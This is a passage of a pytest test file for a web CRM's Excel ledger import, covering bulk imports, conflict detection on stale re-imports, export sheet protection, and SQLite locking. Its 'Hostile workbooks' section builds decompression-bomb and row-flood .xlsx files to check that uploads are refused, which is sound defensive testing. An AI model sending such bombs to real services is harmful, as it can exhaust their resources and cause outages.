def test_the_admin_imports_into_any_carrier(world, login, db_session):
    client = login(world.admin)
    row = new_row(world, 1, 载体=world.carrier_b.name, 责任人=world.officer_b.username)
    assert import_file(client, xlsx([row])).status_code == 302
    project = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
    assert project.carrier_id == world.carrier_b.id and project.officer_id == world.officer_b.id
    assert project.company.registered_by_carrier_id is None


# Bulk work -----------------------------------------------------------------------------------


def test_an_import_runs_the_same_statements_for_20_and_200_rows(world, db_session, count_queries):
    def run(first: int, n: int) -> int:
        rows = read_workbook(io.BytesIO(xlsx([new_row(world, i) for i in range(first, first + n)])))
        with count_queries() as counter:
            plan = plan_import(world.officer_a, rows)
            assert plan.ok, plan.errors[:3]
            apply_import(world.officer_a, plan, "x.xlsx")
        return counter.count

    assert run(1, 20) == run(100, 200)
    assert count(db_session, Project) == 222


def test_old_uploads_are_removed(world, login, import_folder):
    client = login(world.officer_a)
    preview(client, xlsx([new_row(world, 1)]))
    (kept,) = import_folder.glob("*.json")
    old = datetime.now().timestamp() - timedelta(hours=3).total_seconds()
    import os

    os.utime(kept, (old, old))
    preview(client, xlsx([new_row(world, 2)]))
    assert kept not in list(import_folder.glob("*.json"))
    assert oct(next(import_folder.glob("*.json")).stat().st_mode & 0o777) == "0o600"


def test_a_company_without_a_code_in_the_file_is_found_by_its_name(world, login, db_session):
    known = world.project_a.company  # registered with a credit code
    client = login(world.officer_a)
    row = new_row(world, 1, 企业名称=known.name, 统一社会信用代码=None, 企业来源地="")
    url, html = preview(client, xlsx([row, new_row(world, 2, 载体="乙县")]))
    assert "新建 <strong>1</strong> 个项目（新登记企业 0 家）" in html  # the row in error aside
    url, html = preview(client, xlsx([row]))
    assert "新建 <strong>1</strong> 个项目（新登记企业 0 家）" in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    created = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
    assert created.company_id == known.id
    assert count(db_session, Company) == 2


def test_a_name_several_companies_share_needs_the_code(world, login, db_session):
    factories.company(name="同名企业有限公司")
    factories.company(name="同名企业有限公司")
    db_session.commit()
    row = new_row(world, 1, 企业名称="同名企业有限公司", 统一社会信用代码=None)
    _url, html = preview(login(world.officer_a), xlsx([row]))
    assert "库中有多家同名企业，请填写统一社会信用代码" in html


# A stale re-import (issue 14 item 1) -----------------------------------------------------------


def exported_file(client, query: str = "") -> bytes:
    response = client.get("/ledger/export" + query)
    assert response.status_code == 200
    return response.data


def edit_in_app(world, project, **values) -> None:
    """An officer's edit on the project page, after the export."""
    update_project(world.officer_a, project, {"name": project.name, **values}, project.version)


def stale_reimport(world, login, db_session, edit_file=None):
    """The admin exports; an officer changes 总投资 25000 → 26500; the admin imports the export
    (edited by `edit_file(ws, cells)` first): the client and the preview's (URL, HTML)."""
    project = world.project_a
    project.total_investment = Decimal(25000)
    db_session.commit()
    client = login(world.admin)
    data = exported_file(client, f"?carrier={world.carrier_a.id}")
    edit_in_app(world, project, total_investment=Decimal(26500))
    db_session.commit()
    if edit_file is not None:
        wb = load_workbook(io.BytesIO(data))
        ws = wb.worksheets[0]
        edit_file(ws, {c.value: c.column for c in ws[1]})
        out = io.BytesIO()
        wb.save(out)
        data = out.getvalue()
    return client, *preview(client, data)


def test_a_stale_reimport_is_a_conflict_and_keeps_the_newer_edit(world, login, db_session):
    client, url, html = stale_reimport(world, login, db_session)
    project = world.project_a
    # Not an "update": a conflict, with the three values of the cell.
    assert "冲突 1 个" in html and "更新 <strong>0</strong> 个" in html
    assert (
        "<div>总投资（万元）：导出时 25,000.00 · 现在 <strong>26,500.00</strong> · 文件中 25,000.00"
        "</div>"
    ) in html
    assert f'name="apply_row" value="2:{project.version}"' in html

    response = client.post(url, data={"confirm": "y"}, follow_redirects=True)
    assert response.status_code == 200
    assert "导出后已在系统中修改的 1 个项目未勾选，保留系统中的数据未更新" in text(response)
    db_session.expire_all()
    assert project.total_investment == Decimal(26500) and project.version == 2


def test_a_conflicting_row_is_applied_when_chosen(world, login, db_session):
    def edit(ws, cells):
        ws.cell(2, cells["预计新增就业（人）"]).value = 300

    client, url, html = stale_reimport(world, login, db_session, edit)
    project = world.project_a
    assert (
        "<div>预计新增就业（人）：导出时 （空） · 现在 <strong>（空）</strong> · 文件中 300</div>"
        in html
    )
    response = client.post(url, data={"confirm": "y", "apply_row": f"2:{project.version}"})
    assert response.status_code == 302
    db_session.expire_all()
    assert project.total_investment == Decimal(25000) and project.expected_jobs == 300
    assert project.version == 3


def test_a_chosen_row_changed_again_after_the_preview_is_kept(world, login, db_session):
    client, url, _html = stale_reimport(world, login, db_session)
    project = world.project_a
    seen = project.version
    edit_in_app(world, project, total_investment=Decimal(27000))
    db_session.commit()
    response = client.post(url, data={"confirm": "y", "apply_row": f"2:{seen}"})
    assert response.status_code == 302
    db_session.expire_all()
    assert project.total_investment == Decimal(27000)


def test_an_unchanged_project_is_updated_without_a_conflict(world, login, db_session):
    project = world.project_a
    db_session.commit()
    client = login(world.admin)
    wb = load_workbook(io.BytesIO(exported_file(client, f"?carrier={world.carrier_a.id}")))
    ws = wb.worksheets[0]
    cells = {c.value: c.column for c in ws[1]}
    ws.cell(2, cells["总投资（万元）"]).value = 60000
    out = io.BytesIO()
    wb.save(out)
    url, html = preview(client, out.getvalue())
    assert "冲突 1 个" not in html and 'name="apply_row"' not in html
    assert "<div>总投资（万元）：50,000.00 → <strong>60,000.00</strong></div>" in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    db_session.expire_all()
    assert project.total_investment == Decimal(60000)


def test_a_ledger_exported_before_the_version_column_is_checked_by_its_update_time(
    world, login, db_session
):
    def older_export(ws, cells):
        ws.delete_cols(cells["数据版本"])
        stamp = ws.cell(2, cells["更新时间"]).value
        ws.cell(2, cells["更新时间"]).value = stamp - timedelta(minutes=5)

    _client, _url, html = stale_reimport(world, login, db_session, older_export)
    assert "冲突 1 个" in html
    assert "现在 <strong>26,500.00</strong> · 文件中 25,000.00" in html


def test_the_export_locks_its_version_column_and_explains_it(world, login, db_session):
    db_session.commit()
    client = login(world.admin)
    wb = load_workbook(io.BytesIO(exported_file(client)))
    ws = wb.worksheets[0]
    cells = {c.value: c.column for c in ws[1]}
    assert ws.protection.sheet and not ws.protection.password
    assert ws.cell(2, cells["数据版本"]).value == world.project_a.version
    assert ws.cell(2, cells["数据版本"]).protection.locked
    assert not ws.cell(2, cells["总投资（万元）"]).protection.locked
    assert not ws.cell(2, cells["项目名称"]).protection.locked
    # Rows added below the data are editable, except their 数据版本.
    version_letter = get_column_letter(cells["数据版本"])
    assert ws.column_dimensions[version_letter].protection.locked
    assert not ws.column_dimensions["B"].protection.locked
    assert wb["导出时的值"].sheet_state == "veryHidden"
    info = {r[0]: r[1] for r in wb["导出信息"].iter_rows(values_only=True)}
    assert "导出后在系统中被他人修改过的项目显示为冲突" in info["数据版本"]
    template = load_workbook(io.BytesIO(login(world.officer_a).get("/ledger/template").data))
    notes = {r[0]: r[1] for r in template["填写说明"].iter_rows(values_only=True)}
    assert "导出后在系统中被修改过的项目显示为冲突" in notes["数据版本"]


# Hostile workbooks (issue 14 item 6) ----------------------------------------------------------


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """`data` (an .xlsx) with its part `name` replaced by `content`, deflated at level 9."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
        target.writestr(name, content)
    return out.getvalue()


def shared_strings(items: Iterable[bytes]) -> bytes:
    body = b"".join(items)
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + body
        + b"</sst>"
    )


def refused_quickly(client, data: bytes, message: str) -> None:
    started = time.process_time()
    response = upload(client, data)
    assert time.process_time() - started < 2
    assert response.status_code == 413
    html = text(response)
    assert re.search(r'<div class="error" id="file-error">[^<]*' + re.escape(message), html)


def test_a_shared_strings_bomb_is_refused_before_it_is_parsed(world, login, db_session):
    """129 KB that expand to 50 MB of <si><t>a</t></si>."""
    data = with_part(
        xlsx([new_row(world, 1)]),
        "xl/sharedStrings.xml",
        shared_strings([b"<si><t>a</t></si>"] * 3_000_000),
    )
    assert len(data) < 300_000
    refused_quickly(login(world.officer_a), data, "压缩比异常（疑似压缩炸弹）")


def test_a_flood_of_distinct_shared_strings_is_refused(world, login, db_session):
    strings = shared_strings(b"<si><t>%d</t></si>" % i for i in range(500_000))
    data = with_part(xlsx([new_row(world, 1)]), "xl/sharedStrings.xml", strings)
    refused_quickly(login(world.officer_a), data, "文件中的文字超过 400000 条")


def test_a_million_empty_rows_are_refused_and_counted(world, login, db_session):
    """A sheet of 1,048,575 empty rows under the header (a few MB zipped) is not read to its
    end: empty rows count toward the limit of rows read."""
    base = xlsx([new_row(world, 1)])
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    head, _, tail = sheet.partition(b"</row>")  # the header row
    filler = b"".join(b'<row r="%d"/>' % n for n in range(2, 1_048_577))
    rest = tail[tail.index(b"</sheetData>") :]
    data = with_part(base, "xl/worksheets/sheet1.xml", head + b"</row>" + filler + rest)
    refused_quickly(login(world.officer_a), data, "工作表超过 21000 行（含空行）")
    assert count(db_session, Project) == 2


def test_a_file_declaring_a_huge_part_is_refused(world, login, db_session):
    huge = b" " * (101 * 2**20)  # 101 MB of blanks: about 100 KB zipped
    data = with_part(xlsx([new_row(world, 1)]), "xl/worksheets/sheet1.xml", huge)
    refused_quickly(login(world.officer_a), data, "文件解压后超过 200 MB")


def test_an_upload_is_read_outside_any_transaction(world, login, db_session, monkeypatch):
    """On SQLite a POST takes the write lock with its first statement: the file is parsed
    after the transaction that loaded the user has ended, so other users' saves go on."""
    from crm.extensions import db
    from crm.ledger import views

    seen = []

    def reading(stream):
        seen.append(db.session().in_transaction())
        return read_workbook(stream)

    monkeypatch.setattr(views, "read_workbook", reading)
    client = login(world.officer_a)
    assert upload(client, xlsx([new_row(world, 1)])).status_code == 302
    assert seen == [False]


def test_an_update_over_a_project_changed_during_the_import_writes_nothing(world, db_session):
    """The bulk update is guarded by each project's version, as the project form is."""
    from crm.core import ConflictError

    rows = read_workbook(io.BytesIO(xlsx([new_row(world, 1)])))
    apply_import(world.officer_a, plan_import(world.officer_a, rows), "x.xlsx")
    changed = new_row(world, 1, **{"总投资（万元）": 30000})
    plan = plan_import(world.officer_a, read_workbook(io.BytesIO(xlsx([changed]))))
    (row,) = plan.rows
    assert row.action == "update"
    db_session.execute(  # another user's save, after the plan read the project
        sa.update(Project).where(Project.id == row.project.id).values(version=Project.version + 1),
        execution_options={"synchronize_session": False},  # as another process would
    )
    with pytest.raises(ConflictError):  # SQLite and psycopg count the rows an UPDATE matched
        apply_import(world.officer_a, plan, "x.xlsx")
    db_session.expire_all()
    assert row.project.total_investment == Decimal("12345.67")


# The confirmation reads without the write lock, then writes on its own ----------------------


def test_a_project_registered_while_the_file_was_planned_refuses_the_new_rows(
    world, login, db_session, monkeypatch
):
    """The confirmation plans without SQLite's write lock and writes afterwards: a company or
    project registered in between may change the plan's matching, so nothing is written (409)."""
    from crm.ledger import views as ledger_views

    client = login(world.officer_a)
    url, _html = preview(client, xlsx([new_row(world, 1)]))
    before = count(db_session, Project)

    def plan_then_someone_registers(user, rows):
        plan = plan_import(user, rows)
        factories.project(
            world.carrier_b,
            world.cluster_y,
            world.officer_b,
            company_=factories.company("他人企业"),
        )  # meanwhile
        return plan

    monkeypatch.setattr(ledger_views, "plan_import", plan_then_someone_registers)
    response = client.post(url, data={"confirm": "y"})
    assert response.status_code == 409
    assert "导入期间有他人登记了企业或项目，未写入任何数据" in text(response)
    names = set(db_session.scalars(sa.select(Project.name)))
    assert "导入项目1" not in names
    assert count(db_session, Project) == before + 1  # the other user's project only


def test_the_confirmation_plans_outside_the_write_lock(app):
    """SQLite: the confirmation's first transaction is a plain BEGIN; after `end_read` its
    writes take the write lock (BEGIN IMMEDIATE), as every other POST does from the start."""
    from crm import _sqlite_begin, transaction

    class Connection:
        class dialect:
            name = "sqlite"

        def __init__(self):
            self.sent = []

        def exec_driver_sql(self, sql):
            self.sent.append(sql)

    connection = Connection()
    with app.test_request_context("/ledger/import/abc", method="POST"):
        assert transaction.reading()
        _sqlite_begin(connection)
        transaction.end_read()
        assert not transaction.reading()
        _sqlite_begin(connection)
    with app.test_request_context("/ledger/import", method="POST"):
        _sqlite_begin(connection)  # any other POST: the write lock at once
    assert connection.sent == ["BEGIN", "BEGIN IMMEDIATE", "BEGIN IMMEDIATE"]
